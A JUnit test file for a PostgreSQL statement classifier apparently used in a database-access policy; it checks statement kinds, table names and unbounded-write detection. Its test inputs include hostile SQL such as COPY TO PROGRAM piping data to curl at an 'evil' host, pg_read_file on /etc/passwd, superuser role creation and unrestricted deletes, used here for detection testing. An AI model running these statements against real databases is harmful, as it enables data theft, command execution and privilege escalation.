package dev.gatehouse.policy.sql;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.Arrays;
import java.util.EnumSet;
import java.util.LinkedHashSet;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

class SqlClassifierTests {

    private static final SqlClassifier CLASSIFIER = new SqlClassifier();

    static Stream<Arguments> classifications() {
        return Stream.of(
                // plain DML
                expect("SELECT * FROM users WHERE id = 1", "select", "users"),
                expect("select u.name from public.users u join orders o on o.user_id = u.id", "select",
                        "public.users, orders"),
                expect("INSERT INTO audit_log (msg) VALUES ('hello')", "insert", "audit_log"),
                expect("INSERT INTO archive SELECT * FROM orders WHERE created < now()", "insert, select",
                        "archive, orders"),
                expect("UPDATE accounts SET balance = balance - 1 WHERE id = $1", "update", "accounts"),
                expect("DELETE FROM sessions WHERE expires_at < now()", "delete", "sessions"),
                expect("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", "insert, update", "t"),
                expect("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert", "t"),
                expect("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
                        + "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", "merge, update, insert", "t, s"),
                expect("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge, delete", "t, s"),
                expect("TABLE secrets", "select", "secrets"),
                expect("VALUES (1, 'a'), (2, 'b')", "select", ""),
                expect("(SELECT 1 FROM a) UNION ALL (SELECT 2 FROM b)", "select", "a, b"),
                // reads hidden in clauses
                expect("SELECT count(*) OVER (PARTITION BY (SELECT max(x) FROM g)) FROM t", "select", "t, g"),
                expect("SELECT * FROM t WHERE a = ANY (SELECT b FROM u)", "select", "t, u"),
                expect("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.id = t.id) l", "select", "t, u"),
                expect("UPDATE t SET a = (SELECT max(b) FROM u) WHERE id = 1", "update, select", "t, u"),
                expect("DELETE FROM t USING u WHERE t.id = u.id", "delete", "t, u"),
                // CTEs: writes inside add their kinds, CTE names are not tables, scopes are respected
                expect("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select, delete", "t"),
                expect("WITH x AS (SELECT * FROM a) INSERT INTO b SELECT * FROM x", "insert, select", "a, b"),
                expect("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
                        "select", ""),
                expect("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", "select", "secrets"),
                expect("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) x, s", "select", "s"),
                expect("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", "select", "b"),
                expect("WITH users AS (SELECT 1) DELETE FROM users WHERE id = 1", "delete, select", "users"),
                expect("WITH t AS (SELECT 1 AS id) UPDATE t SET id = 2 FROM t AS x WHERE t.id = 1", "update, select", "t"),
                // SELECT variants
                expect("SELECT * INTO new_table FROM t", "select, create", "t, new_table"),
                expect("SELECT * FROM t FOR UPDATE", "select, lock", "t"),
                expect("SELECT * FROM t FOR SHARE SKIP LOCKED", "select, lock", "t"),
                // risky functions wherever they are called
                expect("SELECT pg_read_file('/etc/passwd')", "select, admin-function", ""),
                expect("SELECT pg_catalog.pg_terminate_backend(42)", "select, admin-function", ""),
                expect("SELECT * FROM t WHERE id = (SELECT pg_cancel_backend(1))", "select, admin-function", "t"),
                expect("INSERT INTO t VALUES (lo_export(1, '/tmp/x'))", "insert, admin-function", "t"),
                expect("SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)", "select, dynamic-sql", ""),
                expect("SELECT public.dblink_exec('host=x', 'DROP TABLE t')", "select, dynamic-sql", ""),
                expect("SELECT \"DBLINK_EXEC\"('a', 'b')", "select", ""),
                expect("SELECT \"dblink_exec\"('a', 'b')", "select, dynamic-sql", ""),
                expect("SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", "select, dynamic-sql", ""),
                expect("SELECT set_config('search_path', 'evil', false)", "select, set", ""),
                expect("SELECT length(pg_ls_dir('.'))", "select, admin-function", ""),
                // utility statements
                expect("SET search_path TO evil", "set", ""),
                expect("SET ROLE postgres", "set", ""),
                expect("SET SESSION AUTHORIZATION postgres", "set", ""),
                expect("RESET ALL", "set", ""),
                expect("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set, transaction", ""),
                expect("SHOW search_path", "show", ""),
                expect("BEGIN", "transaction", ""),
                expect("START TRANSACTION READ ONLY", "transaction", ""),
                expect("COMMIT", "transaction", ""),
                expect("END", "transaction", ""),
                expect("ROLLBACK TO SAVEPOINT a", "transaction", ""),
                expect("RELEASE SAVEPOINT a", "transaction", ""),
                expect("PREPARE TRANSACTION 'tx1'", "transaction", ""),
                expect("COMMIT PREPARED 'tx1'", "transaction", ""),
                expect("VACUUM (ANALYZE) t, s.u", "maintenance", "t, s.u"),
                expect("ANALYZE t", "maintenance", "t"),
                expect("REINDEX TABLE CONCURRENTLY t", "maintenance", "t"),
                expect("CLUSTER t USING t_pkey", "maintenance", "t"),
                expect("CHECKPOINT", "maintenance", ""),
                expect("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", "maintenance", "mv"),
                expect("LOCK TABLE t, u IN ACCESS EXCLUSIVE MODE", "lock", "t, u"),
                expect("LISTEN ch", "session", ""),
                expect("NOTIFY ch, 'payload'", "session", ""),
                expect("DISCARD ALL", "session", ""),
                expect("DEALLOCATE ALL", "session", ""),
                expect("TRUNCATE TABLE a, ONLY b RESTART IDENTITY CASCADE", "truncate", "a, b"),
                expect("GRANT SELECT, UPDATE ON TABLE t, s.u TO bob", "grant", "t, s.u"),
                expect("GRANT admin TO bob", "grant", ""),
                expect("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob", "revoke", ""),
                expect("LOAD 'auto_explain'", "admin-function", ""),
                // definitions
                expect("CREATE TABLE t (id int PRIMARY KEY, o int REFERENCES owners (id))", "create", "t, owners"),
                expect("CREATE TABLE t2 AS SELECT * FROM secrets", "create, select", "t2, secrets"),
                expect("CREATE MATERIALIZED VIEW mv AS SELECT * FROM s WITH NO DATA", "create, select", "mv, s"),
                expect("CREATE TABLE t3 AS EXECUTE stmt", "create, dynamic-sql", "t3"),
                expect("CREATE INDEX CONCURRENTLY i ON s.t (a)", "create", "s.t"),
                expect("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "create", ""),
                expect("CREATE EXTENSION dblink", "create", ""),
                expect("CREATE ROLE evil SUPERUSER LOGIN", "create", ""),
                expect("CREATE POLICY p ON t USING (true)", "create", "t"),
                expect("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "create", "t"),
                expect("CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO a VALUES (1); DELETE FROM b)",
                        "create", "t"),
                expect("ALTER TABLE t ADD COLUMN c int", "alter", "t"),
                expect("ALTER TABLE t RENAME TO secrets", "alter", "t, secrets"),
                expect("ALTER ROLE bob SUPERUSER", "alter", ""),
                expect("ALTER SYSTEM SET shared_preload_libraries = 'x'", "alter, set", ""),
                expect("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "alter, grant", ""),
                expect("DROP TABLE IF EXISTS a, \"B\", s.c CASCADE", "drop", "a, B, s.c"),
                expect("DROP FUNCTION f(int)", "drop", ""),
                expect("DROP POLICY p ON t", "drop", "t"),
                expect("DROP OWNED BY bob", "drop", ""),
                expect("COMMENT ON TABLE s.t IS 'x'", "alter", "s.t"),
                expect("COMMENT ON COLUMN s.t.c IS 'x'", "alter", "s.t"),
                expect("SECURITY LABEL FOR selinux ON TABLE t IS 'x'", "alter", "t"),
                // wrappers
                expect("EXPLAIN SELECT * FROM t", "explain, select", "t"),
                expect("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "explain, delete", "t"),
                expect("EXPLAIN (ANALYZE, BUFFERS) CREATE TABLE x AS SELECT * FROM t", "explain, create, select",
                        "x, t"),
                expect("PREPARE q (int) AS UPDATE t SET a = $1 WHERE id = 2", "session, update", "t"),
                expect("EXECUTE q(1)", "dynamic-sql", ""),
                expect("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secrets", "session, select", "secrets"),
                expect("FETCH 10 FROM c", "session", ""),
                expect("COPY t FROM STDIN WITH (FORMAT csv)", "copy, insert", "t"),
                expect("COPY (SELECT * FROM secrets) TO STDOUT", "copy, select", "secrets"),
                expect("COPY t TO PROGRAM 'curl http://evil'", "copy, copy-program, select", "t"),
                expect("COPY t FROM PROGRAM 'id'", "copy, copy-program, insert", "t"),
                expect("COPY t TO '/var/lib/postgresql/out'", "copy, select, admin-function", "t"),
                expect("DO $$ BEGIN PERFORM 1; END $$", "do", ""),
                expect("DO LANGUAGE plpgsql 'BEGIN NULL; END'", "do", ""),
                expect("CALL refresh_all(1, 'x')", "call", ""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("classifications")
    void classifiesWhatTheStatementDoes(String sql, Set<SqlKind> kinds, Set<String> tables) {
        // Given one statement / When it is classified
        SqlAnalysis analysis = CLASSIFIER.classify(sql);

        // Then its kinds and tables are exactly those it uses
        assertThat(analysis.statements()).singleElement().satisfies(statement -> {
            assertThat(statement.parsed()).as("parsed (error: %s)", statement.parseError()).isTrue();
            assertThat(statement.kinds()).containsExactlyInAnyOrderElementsOf(kinds);
            assertThat(statement.tables()).containsExactlyInAnyOrderElementsOf(tables);
        });
    }

    static Stream<Arguments> writes() {
        return Stream.of(
                Arguments.of("DELETE FROM t", true),
                Arguments.of("UPDATE t SET a = 1", true),
                Arguments.of("DELETE FROM t WHERE true", true),
                Arguments.of("DELETE FROM t WHERE 1 = 1", true),
                Arguments.of("UPDATE t SET a = 1 WHERE 'yes'", true),
                Arguments.of("DELETE FROM t WHERE id = id", true),
                Arguments.of("DELETE FROM t WHERE id = 5 OR 1 = 1", true),
                Arguments.of("DELETE FROM t WHERE (true)", true),
                Arguments.of("DELETE FROM t WHERE now() > '2000-01-01'", true),
                Arguments.of("WITH d AS (DELETE FROM t RETURNING id) SELECT count(*) FROM d", true),
                Arguments.of("EXPLAIN ANALYZE UPDATE t SET a = 1", true),
                Arguments.of("DELETE FROM t WHERE id = 5", false),
                Arguments.of("UPDATE t SET a = 1 WHERE id = $1", false),
                Arguments.of("DELETE FROM t WHERE id = 5 AND true", false),
                Arguments.of("DELETE FROM t WHERE id IN (SELECT id FROM u WHERE u.gone)", false),
                Arguments.of("INSERT INTO t VALUES (1)", false),
                Arguments.of("SELECT * FROM t", false),
                Arguments.of("TRUNCATE t", false));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("writes")
    void flagsUpdatesAndDeletesWithoutARestrictingWhere(String sql, boolean unbounded) {
        SqlStatement statement = CLASSIFIER.classify(sql).statements().getFirst();

        assertThat(statement.parsed()).isTrue();
        assertThat(statement.unboundedWrite()).isEqualTo(unbounded);
    }

    static Stream<Arguments> tableNames() {
        return Stream.of(
                Arguments.of("SELECT * FROM Users", "users"),
                Arguments.of("SELECT * FROM \"Users\"", "Users"),
                Arguments.of("SELECT * FROM Public.\"Users\"", "public.Users"),
                Arguments.of("SELECT * FROM mydb.public.users", "public.users"),
                Arguments.of("SELECT * FROM \"we\"\"ird\"", "\"we\"\"ird\""),
                Arguments.of("TRUNCATE \"a.b\"", "\"a.b\""),
                Arguments.of("SELECT * FROM U&\"d\\0061ta\"", "data"),
                Arguments.of("SELECT * FROM U&\"d!0061ta\" UESCAPE '!'", "data"),
                Arguments.of("SELECT * FROM ÄBC", "Äbc"),
                Arguments.of("SELECT * FROM " + "x".repeat(70), "x".repeat(63)),
                Arguments.of("SELECT * FROM public . users", "public.users"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("tableNames")
    void namesTablesTheWayPostgresResolvesThem(String sql, String table) {
        SqlStatement statement = CLASSIFIER.classify(sql).statements().getFirst();

        assertThat(statement.parsed()).as(statement.parseError()).isTrue();
        assertThat(statement.tables()).containsExactly(table);
    }

    static Arguments expect(String sql, String kinds, String tables) {
        Set<SqlKind> kindSet = EnumSet.noneOf(SqlKind.class);
        for (String name : kinds.split(",")) {
            kindSet.add(SqlKind.byPolicyName(name.strip()).orElseThrow());
        }
        Set<String> tableSet = tables.isBlank() ? Set.of() : Arrays.stream(tables.split(","))
                .map(String::strip).collect(Collectors.toCollection(LinkedHashSet::new));
        return Arguments.of(sql, kindSet, tableSet);
    }
}
